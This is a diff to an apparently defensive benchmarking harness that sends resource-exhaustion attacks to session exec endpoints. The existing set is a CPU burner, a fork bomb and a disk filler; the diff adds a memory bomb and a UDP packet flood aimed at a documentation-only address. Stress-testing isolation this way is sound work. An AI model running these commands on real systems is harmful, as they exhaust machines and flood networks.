@@ -19,6 +19,9 @@ SECONDS = 15
 """How long an attack lasts: longer than the keys take."""
 BURN = "for n in 1 2 3 4 5 6 7 8; do (while :; do :; done) & done; wait"
 FORK = "bomb() { bomb | bomb & }; bomb; sleep 60"
+HOARD = "while :; do tail /dev/zero; done"
+FLOOD = "for n in 1 2; do bash -c 'while :; do cat /dev/zero >/dev/udp/192.0.2.1/9; done' & done; wait"
+"""The address is nobody's (RFC 5737), so that nobody is flooded: what the host does with the packets is the same."""
 FILL = "while :; do dd if=/dev/zero of=/root/filled bs=1048576 count=512; done"
 Benchmark = Callable[[Installation], Awaitable[Comparison]]
 
@@ -60,4 +63,10 @@ async def _run(site: Site, session: Session, line: str) -> None:
         await site.http.post(f"/sessions/{session['id']}/exec", json=body)
 
 
-ATTACKS = (beside("CPU burner", BURN), beside("fork bomb", FORK), beside("disk filler", FILL))
+ATTACKS = (
+    beside("CPU burner", BURN),
+    beside("fork bomb", FORK),
+    beside("memory bomb", HOARD),
+    beside("disk filler", FILL),
+    beside("packet flood", FLOOD),
+)
